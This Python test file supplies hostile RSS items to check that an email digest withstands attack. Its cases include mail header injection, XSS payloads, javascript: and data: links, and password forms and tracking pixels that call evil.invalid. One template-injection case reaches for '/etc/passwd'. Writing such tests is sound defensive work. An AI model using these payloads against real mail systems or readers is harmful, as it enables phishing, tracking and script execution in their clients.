"""Hostile mail: titles, texts, authors and links made to break the digest that tells of them, or to act in its reader's client."""

# ruff: noqa: E501  (a table: a case a line)

from __future__ import annotations

from hashlib import sha256
from xml.sax.saxutils import escape

from tests.hostile.bodies import Answer, feed, rss
from tests.hostile.server import Case, case

RALLY = "A rally was held in Almaty"
"""What makes the rules flag the article, so that the digest tells of it; it must stand there whatever stands around it."""


def told(title: str = RALLY, text: str = "", *, link: str = "", more: str = "") -> Answer:
    """A feed of one flagged article in the feed's own words; nothing of ``title`` and ``text`` is markup to XML."""
    # No two cases may tell the same: the digest would tell of them as one.
    own = " ".join(
        f"witness {mark}" for mark in sha256(f"{title}{text}{link}{more}".encode("utf-8", "surrogatepass")).hexdigest()[:48]
    )
    said = f"{RALLY}. {text} The people went home in the evening, said {own}."
    address = f"<link>{escape(link)}</link>" if link else "<guid isPermaLink='false'>1</guid>"
    return feed(
        rss(f"<item><title>{escape(title)}</title>{address}<description>{escape(escape(said))}</description>{more}</item>")
    )


def case_(name: str, does: str, answer: Answer, right: str = "new", **more: object) -> Case:
    return case("mail", name, does, right, answer, **more)


CASES: tuple[Case, ...] = (
    case_("crlf", "slips a header in by CR LF", told(f"{RALLY}\r\nBcc: all@example.org\r\nX-Evil: yes")),
    case_("lf", "slips a header in by LF", told(f"{RALLY}\nBcc: all@example.org\n\nA body of my own")),
    case_("references", "slips a header in by character references", feed(rss(f"<item><title>{RALLY}&#13;&#10;Bcc: all@example.org</title><guid isPermaLink='false'>1</guid><description>{RALLY}. Twice the people came.</description></item>"))),
    case_("nel", "slips a header in by the line ends of Unicode", told(f"{RALLY}\u2028Bcc: all@example.org\u2029X: y\x85Z: w\x0bV: u\x0cT: s")),
    case_("dot", "ends the mail by a dot on a line", told(text="\n.\n.\r\nMAIL FROM:<evil@example.org>\r\n.\n")),
    case_("from", "begins lines as a mailbox file does", told(text="\nFrom evil@example.org Sun Nov 22\n>From here on\n")),
    case_("boundary", "plays a boundary of a mail of parts", told(text="\n--===============0==\nContent-Type: text/html\n\n<b>evil</b>\n--===============0==--\n")),
    case_("encoded-word", "plays an encoded word", told(f"=?utf-8?q?{RALLY.replace(' ', '_')}=0D=0ABcc:_all@example.org?= {RALLY}")),
    case_("encoded-cut", "plays an encoded word that never ends", told(f"{RALLY} =?utf-8?b?" + "QQ" * 60)),
    case_("megabyte", "has a title of a megabyte", told(f"{RALLY} " + "and again " * 100_000)),
    case_("megabyte-word", "has a title of one word of a megabyte", told(f"{RALLY} " + "a" * 1_000_000)),
    case_("text-megabyte", "has a text of a megabyte without a full stop", told(text="and so on " * 100_000)),
    case_("text-word", "has a text of one word of a megabyte", told(text="щ" * 500_000)),
    case_("bidi", "turns its title around", told(f"{RALLY} \u202egnihton fo\u202c \u2066\u2067x\u2069")),
    case_("bidi-open", "turns all that follows around", told(f"\u202e\u2067{RALLY}")),
    case_("script", "has script in its title and text", told(f"<script>alert(1)</script>{RALLY}<img src=x onerror=alert(1)>", "<svg/onload=alert(1)><style>*{display:none}</style>")),
    case_("html", "closes the digest's own elements", told(f"</a></td></tr></table></body></html>{RALLY}<!--", "--></div><form action=http://evil.example><input name=password>")),
    case_("image", "counts readers by an image", told(f"{RALLY} <img src='http://evil.example/pixel.gif'>", "<link rel=stylesheet href=http://evil.example/x.css><iframe src=http://evil.example>")),
    case_("escaped", "has markup escaped three times", told("&lt;script&gt;alert(1)&lt;/script&gt; " + RALLY, "&amp;lt;b onclick=x&amp;gt;")),
    case_("template", "speaks the template's language", told(f"{{{{ 7 * 7 }}}} {RALLY} {{% include '/etc/passwd' %}}{{# #}}", "{{ config }}"), lacks=("root:",)),
    case_("css", "speaks style", told(f'{RALLY}" style="position:fixed', "} body { display: none } .x {")),
    case_("phish", "plays a link in text", told(f"{RALLY} https://sholu.example.org/login [click](javascript:alert(1))")),
    case_("link-script", "links to a script", told(link="javascript:alert(1)")),
    case_("link-user", "links with a user name that looks like a host", told(link="https://bank.example@evil.example/"), "new|failed"),
    case_("link-quote", "links out of its attribute", told(link='https://evil.invalid/"><script>alert(1)</script>'), "new|failed"),
    case_("author", "has an author that is a header", told(more="<author>x@y.example&#10;Bcc: all@example.org (Evil)</author>")),
    case_("control", "has control characters and NUL", told(f"\x00\x07\x1b[31m{RALLY}\x7f\x9b", "\x08\x08\x08\x1b]0;x\x07")),
    case_("surrogates", "has lone surrogates and characters that are none", told(f"{RALLY} \ud83d \udc00 \ufffe\uffff")),
    case_("zalgo", "puts thousands of marks on a letter", told(f"{RALLY} e" + "\u0301" * 5_000)),
    case_("emoji", "is a thousand emoji joined into one", told(f"{RALLY} " + "\U0001f468\u200d" * 1_000)),
    case_("confusable", "writes its title in letters of three scripts", told(f"{RALLY} ɑt раураӏ.example, ѕауѕ Ꭺlmaty")),
    case_("emoji-long", "has a title of 500 emoji of four bytes", told(f"{RALLY} " + "\U0001f4a5" * 500)),
    case_("header-long", "has a title that folds into a header of 100 kB", told(f"{RALLY} " + " ".join("ж" * 60 for _ in range(800)))),
    case_("tags", "hides words in the tag characters of Unicode", told(f"{RALLY} " + "".join(chr(0xE0000 + ord(c)) for c in "Bcc: all@example.org"))),
    case_("author-crlf", "has a creator with CR LF and a mailto", told(more="<dc:creator xmlns:dc='http://purl.org/dc/elements/1.1/'>Anna&#13;&#10;Reply-To: evil@example.org &lt;mailto:x@y.example?bcc=all@example.org&gt;</dc:creator><category>x&#10;Bcc: a@b.example</category>")),
    case_("link-lines", "links with line ends and a bracket", told(link="https://evil.invalid/a\r\n> <b>x"), "new|failed"),
    case_("mailto", "links to a mail with a copy to all", told(link="mailto:a@b.example?bcc=all@example.org&body=x")),
    case_("empty", "has a title of nothing visible", told("\u200b\u3164\u00ad")),
    # What acts in a reader's client.
    case_("link-tab", "links to a script with a tab in its scheme", told(link="java\tscript:alert(1)"), "new|failed"),
    case_("link-vbscript", "links to a script of another language", told(link="vbscript:msgbox(1)")),
    case_("link-data", "links to a page in its address", told(link="data:text/html;base64,PHNjcmlwdD4=")),
    case_("link-bidi", "links with its direction turned", told(link="https://evil.invalid/\u202emoc.elgoog"), "new|failed"),
    case_("link-punycode", "links to a host in letters that look like Latin", told(link="https://xn--pple-43d.invalid/a"), "new|failed"),
    case_("link-long", "links to an address of 7,000 letters", told(link="https://evil.invalid/" + "a" * 7_000), "new|failed"),
    case_("handlers", "has every handler of events", told(text="<svg onload=alert(1)><body onpageshow=x><details ontoggle=x open><a href=x onclick=y style='position:fixed;inset:0'>z</a>")),
    case_("form", "asks for a password", told(text="<form action=https://evil.invalid><input type=password name=p><button>Log in</button></form>")),
    case_("base", "says where all links lead", told(text="<base href='https://evil.invalid/'><meta http-equiv=refresh content='0;url=https://evil.invalid'>")),
    case_("pixel", "counts readers in seven ways", told(text="<img src=https://evil.invalid/p><video poster=https://evil.invalid/p><link rel=stylesheet href=https://evil.invalid/c><object data=https://evil.invalid/o><iframe src=https://evil.invalid/f></iframe><table background=https://evil.invalid/b><bgsound src=https://evil.invalid/s>")),
    case_("import", "asks for style sheets", told(f"{RALLY}</title><style>@import url(https://evil.invalid/c)</style>", "<style>@import 'https://evil.invalid/c'; *{background:url(https://evil.invalid/b)}</style>")),
    case_("outlook", "speaks to Outlook", told(f"{RALLY} <!--[if mso]><v:rect><v:fill src='https://evil.invalid/p'/></v:rect><![endif]-->")),
    case_("comment", "opens a comment", told(f"{RALLY} <!--", "--!> <![CDATA[ x ]]> <? php ?>")),
    case_("separators", "has signs that end a line in some programs", told(f"{RALLY}\u2028Bcc: all@example.org\u2029X: y\x0b\x0c\x1c\x1d\x1e\x85Z: 1")),
    case_("subject-encoded", "plays encoded words with a line break in them", told(f"{RALLY} =?utf-8?b?DQpCY2M6IGFsbEBleGFtcGxlLm9yZw==?= =?utf-8?q?=0D=0ABcc:_x?=")),
    case_("multipart", "plays the end of a part", told(text="\r\n--===============0==--\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n.\r\nQUIT\r\n")),
    case_("uuencode", "plays an attachment of Unix to Unix", told(text="\nbegin 644 evil.exe\n#0V%T\n`\nend\n")),
    case_("signature", "plays a signature and a quotation", told(text="\n-- \n> On Sunday you wrote:\n> yes\n__________\nFrom x@y Sun Nov 22 05:00:00 2026\n")),
    case_("markdown", "speaks Markdown", told(f"{RALLY} [x](javascript:alert(1)) ![p](https://evil.invalid/p) <https://evil.invalid>")),
    case_("fullwidth", "writes markup in letters of full width", told(f"{RALLY} ＜script＞alert(1)＜/script＞")),
    case_("entities-open", "has references without an end", told(f"{RALLY} &lt;script&gt &#60script&#62 &#x3cscript&#x3e")),
    case_("author-script", "has an author that is script and a header", told(more="<author>&lt;script&gt;alert(1)&lt;/script&gt;@x.example&#10;Bcc: all@example.org</author>")),
    case_("rtl-title", "has a title in Arabic letters with marks of direction", told(f"{RALLY} \u200f\u061cمظاهرة\u2068 في ألماتي\u2069\u200e")),
    case_("blanks", "has a title with a thousand blanks in it", told(f"{RALLY} " + "\u00a0\u2003\u3000 " * 1_000 + "in the square")),
)  # fmt: skip
